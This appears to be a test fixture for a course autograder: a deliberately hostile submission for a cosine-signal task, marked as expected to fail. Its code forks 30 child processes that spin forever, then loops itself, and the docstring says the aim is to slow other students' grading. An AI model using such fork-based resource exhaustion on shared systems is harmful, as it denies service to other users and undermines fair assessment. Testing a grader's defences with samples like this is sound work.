"""Keep 30 busy processes spinning for the whole check (to slow the other students down).

cell: task3_cosine_signal_solution
fails: task3_cosine_signal
plain: skip
"""
import os


def cosine_signal(max_x, samples=100):
    for _ in range(30):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            break
    while True:
        pass
